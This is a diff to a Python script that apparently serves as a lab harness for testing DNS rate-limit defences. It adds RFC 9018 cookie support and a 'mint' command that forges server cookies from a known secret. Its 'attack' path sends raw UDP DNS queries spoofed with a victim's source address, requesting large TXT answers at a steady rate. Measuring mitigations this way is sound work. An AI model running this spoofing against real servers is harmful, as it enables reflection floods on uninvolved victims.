@@ -3,6 +3,7 @@
 
   attack   spoofs the victim: raw IPv4/UDP queries with the victim's source address, paced on
            an absolute schedule (no drift when descheduled), every send time recorded
+  mint     an RFC 9018 server cookie (COOKIE option data, hex) for a secret, address and time
   victim   a UDP socket bound to the victim's address and port, recording what arrives
   client   a legitimate client asking at a steady pace from its own address, counting answers
   recipe   the kernel recipe (xt_hashlimit rev 3 in packets mode + ipset block with timeout)
@@ -18,6 +19,7 @@ import struct
 import sys
 import time
 
+import dns.edns
 import dns.flags
 import dns.message
 import dns.rdatatype
@@ -45,8 +47,9 @@ def spoofed_datagram(src: str, sport: int, dst: str, dport: int, payload: bytes)
     return ip + udp
 
 
-def query_wire(qname: str, qtype: str, payload: int, qid: int) -> bytes:
-    q = dns.message.make_query(qname, qtype, use_edns=0, payload=payload)
+def query_wire(qname: str, qtype: str, payload: int, qid: int, cookie: bytes = b"") -> bytes:
+    options = [dns.edns.GenericOption(10, cookie)] if cookie else []
+    q = dns.message.make_query(qname, qtype, use_edns=0, payload=payload, options=options)
     q.id = qid & 0xFFFF
     return q.to_wire()
 
@@ -64,7 +67,7 @@ def cmd_attack(a):
         if delay > 0:
             time.sleep(delay)
         pkt = spoofed_datagram(a.victim, a.sport, a.server, 53,
-                               query_wire(a.qname, a.qtype, 4096, i))
+                               query_wire(a.qname, a.qtype, 4096, i, bytes.fromhex(a.cookie)))
         t = time.monotonic()
         raw.sendto(pkt, (a.server, 0))
         sends.append(t)
@@ -208,6 +211,18 @@ def cmd_recipe(a):
                                           "nominal_blocked", "queries")}))
 
 
+def cmd_mint(a):
+    """A server cookie as the resolver mints it (RFC 9018), with libsodium's SipHash-2-4."""
+    import ctypes
+    sodium = ctypes.CDLL("libsodium.so.23")
+    head = bytes.fromhex(a.client_cookie) + struct.pack("!BBBBI", 1, 0, 0, 0, a.time & 0xFFFFFFFF)
+    out = ctypes.create_string_buffer(8)
+    data = head + socket.inet_aton(a.ip)
+    sodium.crypto_shorthash_siphash24(out, data, ctypes.c_ulonglong(len(data)),
+                                      bytes.fromhex(a.secret))
+    print((head + out.raw).hex())
+
+
 def cmd_now(a):
     print(f"{time.monotonic():.6f}")
 
@@ -232,6 +247,7 @@ def main():
     p.add_argument("--qtype", default="TXT")
     p.add_argument("--rate", type=float, default=200)
     p.add_argument("--duration", type=float, required=True)
+    p.add_argument("--cookie", default="", help="COOKIE option data (hex): forged or replayed")
     p.add_argument("--out", required=True)
     p = sub.add_parser("victim")
     p.add_argument("--bind", required=True)
@@ -246,6 +262,11 @@ def main():
     p.add_argument("--interval", type=float, default=0.5)
     p.add_argument("--timeout", type=float, default=1.0)
     p.add_argument("--out", required=True)
+    p = sub.add_parser("mint")
+    p.add_argument("--secret", required=True)
+    p.add_argument("--client-cookie", required=True)
+    p.add_argument("--ip", required=True)
+    p.add_argument("--time", type=int, required=True)
     p = sub.add_parser("recipe")
     p.add_argument("--sends", required=True)
     p.add_argument("--block-s", type=float, required=True)
@@ -254,7 +275,7 @@ def main():
     p.add_argument("--out", required=True)
     a = ap.parse_args()
     {"attack": cmd_attack, "victim": cmd_victim, "client": cmd_client,
-     "recipe": cmd_recipe, "now": cmd_now, "until": cmd_until}[a.cmd](a)
+     "recipe": cmd_recipe, "mint": cmd_mint, "now": cmd_now, "until": cmd_until}[a.cmd](a)
 
 
 if __name__ == "__main__":
